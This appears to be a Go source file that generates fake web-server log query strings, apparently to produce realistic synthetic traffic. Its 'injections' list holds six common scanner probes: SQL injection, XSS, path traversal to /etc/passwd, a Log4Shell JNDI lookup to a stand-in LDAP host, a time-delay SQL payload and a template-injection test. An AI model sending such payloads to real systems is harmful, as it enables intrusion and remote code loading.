package fakelog

import (
	"net/url"
	"strconv"
	"sync"
)

// appendQuery writes the query of a kind that a number stands for.
func (p *pen) appendQuery(dst []byte, kind queryKind, arg uint32) []byte {
	d := dice(arg)
	switch kind {
	case searchFor:
		return p.appendWords(append(dst, "q="...), &d)
	case suggestFor: // the last three bits say how much is typed
		d = dice(arg &^ 7)
		dst = append(dst, "q="...)
		n := len(dst)
		dst = p.appendWords(dst, &d)
		return dst[:min(len(dst), n+3+int(arg&7))]
	case progressOf:
		dst = strconv.AppendUint(append(dst, "at="...), uint64(5*(1+d.below(20))), 10)
		return strconv.AppendUint(append(dst, "&s="...), scramble(uint64(arg))>>32, 16)
	case campaign:
		dst = append(append(dst, "utm_source="...), []string{"newsletter", "mastodon", "course"}[arg%3]...)
		return strconv.AppendUint(append(dst, "&utm_medium=email&utm_campaign="...), uint64(2026_00+arg/3%12+1), 10)
	case clickID:
		dst = append(dst, []string{"fbclid=IwAR", "gclid=EAIa", "srsltid=AfmB"}[arg%3]...)
		dst = strconv.AppendUint(dst, scramble(uint64(arg)), 36)
		return strconv.AppendUint(dst, scramble(uint64(arg)+1), 36)
	case pageNumber:
		return strconv.AppendUint(append(dst, "page="...), uint64(arg), 10)
	case version:
		return strconv.AppendUint(append(dst, "v="...), uint64(arg), 16)
	case injection:
		dst = append(append(dst, "q="...), injections[d.below(len(injections))]...)
		return strconv.AppendUint(dst, uint64(d.below(100_000)), 10)
	}
	return dst
}

// injections are what scanners write into a search field.
var injections = []string{
	"1%27%20OR%20%271%27=%271&id=", "%3Cscript%3Ealert(1)%3C/script%3E&n=", "../../../../etc/passwd%00&n=",
	"${jndi:ldap://203.0.113.9/a}&n=", "1;WAITFOR%20DELAY%20%270:0:5%27--&n=", "%7B%7B7*7%7D%7D&n=",
}

// appendWords writes one to four words, as a browser sends them.
func (p *pen) appendWords(dst []byte, d *dice) []byte {
	words := escapedWords()
	for i := range 1 + d.below(1+d.below(4)) {
		if i > 0 {
			dst = append(dst, '+')
		}
		dst = append(dst, words[d.below(1+d.below(len(words)))]...)
	}
	return dst
}

var escapedWords = sync.OnceValue(func() []string {
	var words []string
	for _, w := range loadWorld().words {
		words = append(words, url.QueryEscape(w))
	}
	return words
})
